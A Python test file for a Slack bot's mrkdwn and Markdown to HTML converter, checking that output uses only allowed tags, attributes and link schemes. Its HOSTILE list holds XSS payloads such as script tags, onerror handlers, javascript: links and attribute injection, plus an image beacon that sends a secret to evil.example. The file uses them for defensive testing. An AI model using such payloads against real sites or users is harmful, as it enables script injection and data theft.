"""mrkdwn and Markdown become HTML that says what was written and can do nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.playground.markdown import markdown_html
from bot.playground.markup import Names, mrkdwn_html, plain_html

NAMES = Names({"U0MARA": "Mara <b>"}, {"C0GENERAL": "general"})
SAFE_TAGS = {
    *("a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p"),
    *("pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
SAFE_ATTRIBUTES = {"href", "rel", "target", "class", "data-user", "role", "aria-label", "start"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<javascript:alert(1)|click>",
    "<JaVaScRiPt:alert(1)>",
    "<data:text/html,<script>alert(1)</script>|x>",
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:x)",
    "[x](java\tscript:alert(1)) [x](\x01javascript:alert(1)) <javascript:alert(1)>",
    "![beacon](https://evil.example/?q=secret)",
    '<https://evil.example/" onmouseover="alert(1)|x>',
    '<@U0MARA" onclick="alert(1)> <#C0GENERAL" onclick="alert(1)> <!here" onclick="x>',
    "<!subteam^S1|<img src=x onerror=alert(1)>>",
    "`<b>` ```<script>alert(1)</script>``` *<i>x</i>*",
    '[a](https://x.example "title\\" onclick=\\"alert(1)")',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>*{display:none}</style><svg/onload=alert(1)>",
]


class _Checker(HTMLParser):
    """Fails on a tag, attribute or address that has no business in a message."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in SAFE_TAGS, tag
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES, name
            if name == "href":
                assert (value or "").lower().startswith(("http://", "https://", "mailto:", "#/")), value
        if tag == "a" and not dict(attrs)["href"].startswith("#/"):  # pyright: ignore[reportOptionalMemberAccess]
            assert dict(attrs)["rel"] == "noopener noreferrer"


def check(html: str) -> None:
    checker = _Checker()
    checker.feed(html)
    checker.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_and_does_nothing(text: str) -> None:
    check(mrkdwn_html(text, NAMES))
    check(markdown_html(text, NAMES))
    check(plain_html(text))


@given(st.text(alphabet="<>@#!|&;:*_~`[]()\"'\\\n \tahjx/.=+-1", max_size=200))
def test_any_text_becomes_safe_html(text: str) -> None:
    check(mrkdwn_html(text, NAMES))
    check(markdown_html(text, NAMES))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("*bold* _slanted_ ~gone~", "<strong>bold</strong> <em>slanted</em> <s>gone</s>"),
        ("*bold and _slanted_*", "<strong>bold and <em>slanted</em></strong>"),
        ("2*3*4 and snake_case_name", "2*3*4 and snake_case_name"),
        ("`a &lt; *b*`", "<code>a &lt; *b*</code>"),
        ("```line &lt;1&gt;\nline 2```", "<pre><code>line &lt;1&gt;\nline 2</code></pre>"),
        ("&gt; one\n&gt; two\nthree", "<blockquote>one<br>two</blockquote>three"),
        ("a\nb", "a<br>b"),
        ("&amp;lt;", "&amp;lt;"),
        ("<@U0MARA>", '<span class="mention" data-user="U0MARA">@Mara &lt;b&gt;</span>'),
        ("<@U9|Zoe>", '<span class="mention" data-user="U9">@Zoe</span>'),
        ("<#C0GENERAL>", '<a class="mention" href="#/C0GENERAL">#general</a>'),
        ("<#C9|secret>", '<span class="mention">#secret</span>'),
        ("<!here>", '<span class="mention mention-all">@here</span>'),
        ("<!subteam^S1|@oncall>", '<span class="mention">@oncall</span>'),
        ("<!date^1^{date}|May 5>", "May 5"),
        (":tada: :unheard_of:", '<span role="img" aria-label="tada">🎉</span> :unheard_of:'),
    ],
)
def test_mrkdwn_reads_as_slack_shows_it(text: str, html: str) -> None:
    assert mrkdwn_html(text, NAMES) == html


def test_a_link_opens_elsewhere_and_keeps_its_label() -> None:
    html = mrkdwn_html("<https://a.example/*x*?a=1&amp;b=2|the label>", NAMES)
    assert html == (
        '<a href="https://a.example/*x*?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">the label</a>'
    )


def test_a_mail_address_is_shown_without_its_scheme() -> None:
    assert ">a@b.example</a>" in mrkdwn_html("<mailto:a@b.example>", NAMES)


def test_markdown_has_tables_strikethrough_and_line_ends() -> None:
    html = markdown_html("~~old~~\nnew\n\n|a|b|\n|-|-|\n|1|2|", NAMES)
    assert "<s>old</s><br />\nnew" in html
    assert "<th>a</th>" in html
    assert "<td>2</td>" in html


def test_a_columns_alignment_needs_no_inline_style() -> None:
    html = markdown_html("|a|b|\n|-:|-|\n|1|2|", NAMES)
    assert '<td class="align-right">1</td>' in html
    assert "<td>2</td>" in html


def test_markdown_keeps_slacks_mentions_outside_of_code() -> None:
    html = markdown_html("<@U0MARA> `<@U0MARA>` <!channel>", NAMES)
    assert html.count('data-user="U0MARA"') == 1
    assert "<code>&lt;@U0MARA&gt;</code>" in html
    assert "mention-all" in html


def test_markdown_links_bare_addresses_without_the_full_stop_after_them() -> None:
    html = markdown_html("See https://a.example/x?y=1. `https://code.example`", NAMES)
    assert 'href="https://a.example/x?y=1"' in html
    assert "https://code.example</code>" in html


def test_an_image_is_a_link_with_its_words() -> None:
    html = markdown_html("![A chart](https://a.example/x.png)", NAMES)
    assert "<img" not in html
    assert ">A chart</a>" in html


def test_an_image_within_a_link_adds_no_second_link() -> None:
    assert markdown_html("[![badge](https://a.example/b)](https://c.example)", NAMES).count("<a ") == 1


@pytest.mark.parametrize("text", ["*" * 40_000, "<" * 40_000, "*a " * 13_000, ":" * 40_000, "*<" * 20_000])
def test_long_runs_of_marks_stay_words(text: str) -> None:
    # Quadratic matching would run into the test's time limit here.
    check(mrkdwn_html(text, NAMES))
    check(markdown_html(text, NAMES))
